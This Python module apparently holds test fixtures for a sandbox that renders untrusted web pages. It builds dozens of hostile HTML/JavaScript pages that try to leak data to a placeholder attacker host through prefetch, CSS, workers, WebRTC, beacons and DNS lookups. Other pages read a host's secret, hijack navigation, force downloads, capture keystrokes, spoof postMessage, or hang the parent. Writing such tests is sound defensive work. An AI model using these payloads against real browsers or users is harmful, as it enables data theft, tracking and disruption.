"""Attacks beside those in hostile/: what else a page may try. Placeholders are those of hostile/INDEX.md and __HOST__.

A page calls `win(text)` when it got what it wanted; whatever arrives at a collector counts as well.
"""

from dataclasses import dataclass

_HEAD = (
    "<!doctype html><html><head><title>attack</title></head><body style='margin:0;min-height:100vh'><script>"
    "window.__r={ok:false,d:''};function win(d){window.__r={ok:true,d:String(d).slice(0,200)}}"
    "function tried(e){window.__r.d+=' '+e}</script>"
)
_RTC = (
    "let p=new RTC({iceServers:[{urls:`stun:__STUN__`},{urls:`turn:__TURN__?transport=tcp`,username:`u`,credential:`s`}]});"
    "p.createDataChannel(`x`);p.createOffer().then(o=>p.setLocalDescription(o))"
)


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    html: str
    needs_click: bool = False


def _attack(name: str, script: str, *, body: str = "", needs_click: bool = False) -> Attack:
    page = f"{_HEAD}{body}<script>(async()=>{{try{{{script}}}catch(e){{tried(e)}}}})()</script></body></html>"
    return Attack(name, page, needs_click)


def _on_click(name: str, script: str, *, body: str = "") -> Attack:
    return _attack(
        name,
        f"addEventListener('click',async()=>{{try{{{script}}}catch(e){{tried(e)}}}},{{once:true}})",
        body=body,
        needs_click=True,
    )


def _link(rel: str, more: str = "") -> str:
    return f"let l=document.createElement('link');l.rel='{rel}';{more};l.href='http://__EVIL__/__TAG__/{rel}';document.head.append(l)"


ATTACKS: tuple[Attack, ...] = (
    # --- Something is sent ----------------------------------------------------------------------------------------
    _attack("prefetch", _link("prefetch")),
    _attack("preload", _link("preload", "l.as='image'")),
    _attack("modulepreload", _link("modulepreload")),
    _attack("stylesheet", _link("stylesheet")),
    _attack(
        "early_hints_in_markup",
        "",
        body="<link rel=preconnect href='http://__EVIL__/'><link rel=preload as=font crossorigin href='http://__EVIL__/f'>",
    ),
    _attack(
        "speculation_rules",
        "let s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:"
        "[{source:'list',urls:['http://__EVIL__/__TAG__/spec'],eagerness:'immediate'}],prerender:[{source:'list',"
        "urls:['http://__EVIL__/__TAG__/pre']}]});document.head.append(s);new Image().src='http://__EVIL__/__TAG__/i'",
    ),
    _attack("meta_refresh", "", body="<meta http-equiv=refresh content='0;url=http://__EVIL__/__TAG__/refresh'>"),
    _attack(
        "svg",
        "",
        body="<svg width=50 height=50><style>@import url(http://__EVIL__/__TAG__/svgimport);</style><defs><filter id=f>"
        "<feImage href='http://__EVIL__/__TAG__/feimage'/></filter></defs><use href='http://__EVIL__/__TAG__/u.svg#x'/>"
        "<rect width=20 height=20 filter='url(#f)' style='mask:url(http://__EVIL__/__TAG__/mask#m)'/></svg>",
    ),
    _attack(
        "base",
        "let i=new Image();i.src='relative.png';document.body.append(i)",
        body="<base href='http://__EVIL__/__TAG__/'><img src=first.png>",
    ),
    _attack(
        "css_everywhere",
        "new FontFace('q','url(http://__EVIL__/__TAG__/face)').load().catch(tried)",
        body="<style>body{cursor:url(http://__EVIL__/__TAG__/cur),auto;border-image:url(http://__EVIL__/__TAG__/b) 3}"
        "p::before{content:url(http://__EVIL__/__TAG__/c)}p{background:image-set('http://__EVIL__/__TAG__/s' 1x);"
        "shape-outside:url(http://__EVIL__/__TAG__/so);float:left;list-style-image:url(http://__EVIL__/__TAG__/l)}"
        "</style><p>text</p>",
    ),
    _attack(
        "pictures_and_tracks",
        "",
        body="<picture><source srcset='http://__EVIL__/__TAG__/srcset'><img src='data:,'></picture><input type=image "
        "src='http://__EVIL__/__TAG__/input'><video><source src='http://__EVIL__/__TAG__/vs'></video><video crossorigin>"
        "<track default kind=captions src='http://__EVIL__/__TAG__/t'></video><table background='http://__EVIL__/b'>",
    ),
    _attack(
        "worklets",
        "let u='http://__EVIL__/__TAG__/w.js';CSS.paintWorklet&&CSS.paintWorklet.addModule(u).catch(tried);"
        "new AudioContext().audioWorklet.addModule(u).catch(tried)",
    ),
    _attack(
        "workers",
        "let c=`fetch('http://__EVIL__/__TAG__/worker',{mode:'no-cors'});new WebSocket('ws://__EVIL__/__TAG__/workerws');"
        "importScripts('http://__EVIL__/__TAG__/imported')`;let b=URL.createObjectURL(new Blob([c]));"
        "for(let f of [()=>new Worker(b),()=>new SharedWorker(b),()=>new Worker('data:text/javascript,'"
        "+encodeURIComponent(c))])try{f()}catch(e){tried(e)}",
    ),
    _attack(
        "import_in_data_module",
        "import('data:text/javascript,import(\"http://__EVIL__/__TAG__/dm.js\")').catch(tried)",
    ),
    _attack(
        "import_map",
        "import('evil').catch(tried)",
        body='<script type=importmap>{"imports":{"evil":"http://__EVIL__/__TAG__/mapped.js"}}</script>',
    ),
    _attack(
        "on_the_way_out",
        "addEventListener('pagehide',()=>navigator.sendBeacon('http://__EVIL__/__TAG__/hide','x'));"
        "addEventListener('visibilitychange',()=>fetch('http://__EVIL__/__TAG__/vis',{keepalive:true,mode:'no-cors'}));"
        "fetch('http://__EVIL__/__TAG__/keep',{keepalive:true,mode:'no-cors'}).catch(tried);setTimeout(()=>location.reload(),200)",
    ),
    _attack(
        "nested_blob_and_object",
        "let b=URL.createObjectURL(new Blob([`<script>fetch('http://__EVIL__/__TAG__/nb',{mode:'no-cors'})<\\/script>`],"
        "{type:'text/html'}));for(let [t,a] of [['iframe','src'],['object','data'],['embed','src']]){let e=document."
        "createElement(t);e[a]=b;document.body.append(e)}",
    ),
    _attack(
        "nested_javascript_url",
        "document.body.insertAdjacentHTML('beforeend',`<iframe src=\"javascript:fetch('http://__EVIL__/__TAG__/njs',"
        "{mode:'no-cors'})\"></iframe>`)",
    ),
    _attack(
        "webrtc_from_a_fresh_realm",
        "let f=document.createElement('iframe');document.body.append(f);let RTC=(f.contentWindow||window[0])"
        f".RTCPeerConnection;{_RTC}",
    ),
    _attack(
        "webrtc_from_markup",
        f"document.body.innerHTML='<iframe></iframe>';let RTC=window[0].RTCPeerConnection;{_RTC}",
    ),
    _attack(
        "webrtc_from_a_closed_shadow_root",
        "let d=document.createElement('div');document.body.append(d);let h='<div><template shadowrootmode=closed><iframe srcdoc="
        f'"<script>let RTC=RTCPeerConnection;{_RTC}<\\/script>"></iframe></template></div>\';d.setHTMLUnsafe(h)',
    ),
    _attack(
        "webrtc_while_parsing",
        "",
        body=f'<iframe srcdoc="<script>let RTC=RTCPeerConnection;{_RTC}</script>"></iframe>',
    ),
    _attack("webrtc_through_the_parent", f"let RTC=parent.RTCPeerConnection;{_RTC}"),
    _attack("to_the_host", "fetch('http://__HOST__/secret',{credentials:'include'}).then(r=>r.text()).then(win)"),
    _attack("image_of_the_host", "let i=new Image();i.onload=i.onerror=()=>0;i.src='http://__HOST__/secret'"),
    _attack("form_to_the_host", "f.submit()", body="<form id=f method=post action='http://__HOST__/secret'></form>"),
    _attack("frame_of_the_host", "location.href='http://__HOST__/secret'"),
    _attack("query_on_its_own_address", "setTimeout(()=>{location.href=location.pathname+'?secret'},200)"),
    _attack(
        "text_of_a_neighbour", "let r=await fetch('__SIBLING__');let t=await r.text();if(t.includes('VICTIM'))win(t)"
    ),
    _on_click("ping", "a.click()", body="<a id=a href='#x' ping='http://__EVIL__/__TAG__/ping'>a</a>"),
    _on_click("link_out", "a.click()", body="<a id=a href='http://__EVIL__/__TAG__/out'>a</a>"),
    _on_click(
        "svg_link_out",
        "",
        body="<svg width=2000 height=2000><a href='http://__EVIL__/__TAG__/svga'><rect width=2000 height=2000 /></a></svg>",
    ),
    _on_click(
        "silent_link_out",
        "",
        body="<a href='http://__EVIL__/__TAG__/silent' onclick='event.stopPropagation()' style='position:fixed;inset:0'>a</a>",
    ),
    # --- Something is opened, or navigated ------------------------------------------------------------------------
    _on_click(
        "window_open", "open('http://__EVIL__/__TAG__/o1');open('http://__EVIL__/__TAG__/o2','_blank','noopener')"
    ),
    _on_click("target_blank", "a.click()", body="<a id=a target=_blank href='http://__EVIL__/__TAG__/blank'>a</a>"),
    _on_click(
        "form_target_top", "f.submit()", body="<form id=f target=_top action='http://__EVIL__/__TAG__/ft'></form>"
    ),
    _on_click("native_open", "Document.prototype.open.call(document,'http://__EVIL__/__TAG__/no','_blank','')"),
    _on_click("top_location", "top.location.href='http://__EVIL__/__TAG__/top'"),
    _attack(
        "top_javascript",
        "top.location.href=`javascript:document.title='pwned'`;setTimeout(()=>top.location.replace('http://__EVIL__/__TAG__/tr'),200)",
    ),
    _attack(
        "back_in_history", "history.back();setTimeout(()=>history.go(-2),100);setTimeout(()=>navigation.back(),200)"
    ),
    _attack(
        "history_flood",
        "for(let i=0;i<45;i++){history.pushState({i},'','#'+i);History.prototype.pushState.call(history,i,'')}",
    ),
    _attack(
        "neighbour_navigated",
        "for(let i=0;i<top.length;i++)if(top[i]!==self)top[i].location='http://__EVIL__/__TAG__/nn'",
    ),
    _attack("neighbours_counted", "if(top.length>1)win(top.length)"),
    _on_click(
        "download_click",
        "let a=document.createElement('a');a.href='data:application/octet-stream,MZ';a.download='e.exe';a.click()",
    ),
    _attack(
        "download_by_blob", "location.href=URL.createObjectURL(new Blob(['MZ'],{type:'application/x-msdownload'}))"
    ),
    # --- Something is read, or kept -------------------------------------------------------------------------------
    _attack("referrer", "if(document.referrer.includes('/stage'))win(document.referrer)"),
    _attack(
        "parent_properties",
        "let o=[];for(let k of ['name','document','localStorage','origin','secret'])try{if(parent[k]!==undefined)o.push(k)}catch(e){};if(o.length)win(o)",
    ),
    _attack("cookie_store", "await cookieStore.set('evil','1');win('cookie set')"),
    _attack(
        "indexed_db",
        "await new Promise((y,n)=>{let r=indexedDB.open('evil');r.onsuccess=y;r.onerror=n});win('database')",
    ),
    _attack("service_worker", "await navigator.serviceWorker.register('/sw.js');win('registered')"),
    _attack("storage_buckets", "await navigator.storage.getDirectory();win('files')"),
    _attack(
        "shared_channel",
        "let c=new BroadcastChannel('v');c.onmessage=e=>win(e.data);for(let i=0;i<5;i++){c.postMessage('hi');await new Promise(r=>setTimeout(r,100))}",
    ),
    _attack(
        "locks",
        "for(let i=0;i<8;i++){let l=await navigator.locks.query();if(l.held.length)win(l.held.length);await new Promise(r=>setTimeout(r,150))}",
    ),
    _on_click(
        "clipboard_written",
        "addEventListener('copy',e=>{e.clipboardData.setData('text/plain','evil');e.preventDefault()});"
        "RegExp.prototype.exec=()=>null;if(document.execCommand('cOpy'))win('copied')",
    ),
    # --- The person is disturbed ----------------------------------------------------------------------------------
    _attack(
        "dialogs",
        "confirm('a');prompt('b');window.print&&0;Window.prototype.alert&&Window.prototype.alert.call(window,'c')",
    ),
    _attack("dialog_from_a_nested_frame", "", body="<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    _attack(
        "autofocus",
        "setInterval(()=>{window.focus();i.focus();i.select()},40);i.oninput=()=>{if(i.value.includes('z'))win(i.value)}",
        body="<input id=i autofocus>",
    ),
    _attack(
        "focus_from_a_fresh_realm",
        "let f=document.createElement('iframe');document.body.append(f);let w=f.contentWindow||window[0];let g=w.HTMLElement.prototype.focus;setInterval(()=>g.call(i),40);i.oninput=()=>{if(i.value.includes('z'))win(i.value)}",
        body="<input id=i>",
    ),
    _attack(
        "focus_by_dialog",
        "let g=()=>{let d=document.createElement('dialog');d.innerHTML='<input autofocus>';document.body.append(d);d.showModal();d.firstChild.oninput=e=>win(e.target.value)};setInterval(g,60)",
    ),
    _attack(
        "keys_swallowed",
        "for(let t of [window,document])for(let k of ['keydown','keypress','beforeinput'])t.addEventListener(k,e=>{e.preventDefault();e.stopImmediatePropagation();win(e.key)},true);setInterval(()=>{window.focus();document.body.focus()},40)",
        body="<div tabindex=0 autofocus>x</div>",
    ),
    _attack(
        "scroll_host",
        "setInterval(()=>{b.scrollIntoView({block:'center'});location.hash='';location.hash='b';i.focus()},60)",
        body="<div style='height:3000px'></div><input id=i><p id=b>here</p>",
    ),
    _on_click("fullscreen", "await document.documentElement.requestFullscreen();win('full')"),
    _on_click("pointer_lock", "await document.body.requestPointerLock();win('locked')"),
    _attack(
        "nested_spoof",
        "",
        body="<iframe srcdoc='<script>for(let i=0;i<5;i++)top.postMessage({type:`rank`,order:[`A`]},`*`)</script>'></iframe>",
    ),
    _attack(
        "spoof_our_protocol",
        "for(let i=0;i<5;i++){for(let t of ['ready','page','leave','pong'])parent.postMessage({refine:t,type:'rank',page:{html:'x'}},'*');await new Promise(r=>setTimeout(r,100))}",
    ),
    _attack("nested_hang", "", body="<iframe srcdoc='<script>setTimeout(()=>{for(;;){}},300)</script>'></iframe>"),
    _attack(
        "flood_from_a_nested_frame",
        "",
        body="<iframe srcdoc='<script>setInterval(()=>{for(let i=0;i<4000;i++)top.postMessage({k:`x`.repeat(1000)},`*`)},0)</script>'></iframe>",
    ),
)

HUGE_MESSAGE = _attack(
    "one_huge_message",
    "let a=[];for(let i=0;i<4e6;i++)a.push({i});for(let w of [parent,top])w.postMessage(a,'*')",
)
"""Takes many seconds to put together again, for whoever reads it."""
KEYBOARD_FROM_A_NEIGHBOUR = _attack(
    "keyboard_from_a_neighbour",
    "let g=()=>{let d=document.createElement('dialog');d.innerHTML='<input autofocus>';document.body.append(d);"
    "d.showModal();d.firstChild.oninput=e=>{win(e.target.value)}};"
    "setTimeout(()=>setInterval(g,60),2000)",
)


def name_attacks(tag: str) -> tuple[Attack, ...]:
    """Attacks that tell something by the mere look-up of a host name: each uses one of its own, `NAME.TAG.test`."""
    links = "let l=document.createElement('link');l.rel='{0}';l.href='http://{0}.{1}.test/';document.head.append(l)"
    return (
        *(_attack(rel, links.format(rel, tag)) for rel in ("dns-prefetch", "preconnect", "prefetch", "stylesheet")),
        _attack(
            "markup",
            "",
            body=f"<link rel=dns-prefetch href='//markup.{tag}.test'><a href='http://anchor.{tag}.test/'>a</a>",
        ),
        _attack("image", f"new Image().src='http://image.{tag}.test/'"),
        _attack("fetch", f"fetch('http://fetch.{tag}.test/')"),
        _attack("socket", f"new WebSocket('ws://socket.{tag}.test/')"),
        _attack("navigation", f"location.href='http://navigation.{tag}.test/'"),
        _attack(
            "stun",
            "let RTC=window.RTCPeerConnection||parent.RTCPeerConnection;"
            f"let p=new RTC({{iceServers:[{{urls:'stun:stun.{tag}.test:3478'}}]}});p.createDataChannel('x');"
            "p.createOffer().then(o=>p.setLocalDescription(o))",
        ),
        _attack(
            "nested_stun",
            "",
            body=f"<iframe srcdoc=\"<script>let p=new RTCPeerConnection({{iceServers:[{{urls:'stun:nested_stun.{tag}.test'}}]}});"
            "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>\"></iframe>",
        ),
        _attack(
            "hovered",
            f"a.href='http://hovered.{tag}.test/'",
            body="<a id=a style='position:fixed;inset:0'>a</a>",
            needs_click=True,
        ),
        _attack(
            "meta",
            "",
            body=f"<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='//meta.{tag}.test'>",
        ),
    )
